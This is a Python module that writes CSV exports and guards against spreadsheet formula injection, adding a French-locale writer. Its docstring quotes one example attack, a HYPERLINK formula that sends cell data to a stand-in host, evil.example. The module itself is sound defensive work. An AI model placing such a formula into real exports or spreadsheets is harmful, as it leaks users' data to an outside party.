"""The one CSV writer of every export: cells that a spreadsheet would run as formulas are defused.

Spreadsheets (Excel, LibreOffice, Google Sheets) treat a cell starting with `=`, `+`, `-` or `@`
as a formula, and some strip a leading tab, carriage return, line feed or space first; a formula
such as `=HYPERLINK("https://evil.example/?"&A1, "clic")` in a comment would then leak data or
open a link. Text cells starting that way get a leading apostrophe, which spreadsheets show as
text (OWASP's "CSV injection" advice). Numbers the program wrote are left as they are.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
# Full-width forms that some spreadsheets fold to their ASCII twins.
_FULL_WIDTH = ("\uff1d", "\uff0b", "\uff0d", "\uff20")


def cell(value: object) -> str | int | float:
    """One cell as it is written: None is empty, numbers stay numbers, risky text is quoted."""
    if value is None:
        return ""
    if isinstance(value, int | float):
        return value
    text = str(value)
    stripped = text.lstrip(" ")
    if text.startswith(FORMULA_STARTS) or stripped.startswith(FORMULA_STARTS + _FULL_WIDTH):
        return "'" + text
    return text


def write_rows(rows: Iterable[Sequence[object]], *, header: Sequence[str] | None = None) -> str:
    """A whole CSV document (header first), every cell through `cell`."""
    out = io.StringIO()
    writer = csv.writer(out)
    if header is not None:
        writer.writerow([cell(h) for h in header])
    for row in rows:
        writer.writerow([cell(v) for v in row])
    return out.getvalue()


def _french_number(value: int | float) -> str:
    """1234.5 -> "1234,5": the decimal comma a French spreadsheet reads as a number."""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, float) and value.is_integer():
        value = int(value)
    return str(value).replace(".", ",")


def write_rows_french(
    rows: Iterable[Sequence[object]], *, header: Sequence[str] | None = None
) -> str:
    """The same document for a spreadsheet set to French: cells separated by ";", numbers with
    a decimal comma, every cell through `cell`. Encode it with a BOM ("utf-8-sig") so that Excel
    reads the accents; it then opens in columns instead of one."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";")
    if header is not None:
        writer.writerow([cell(h) for h in header])
    for row in rows:
        writer.writerow(
            [
                _french_number(v)
                if isinstance(v, int | float) and not isinstance(v, bool)
                else cell(v)
                for v in row
            ]
        )
    return out.getvalue()
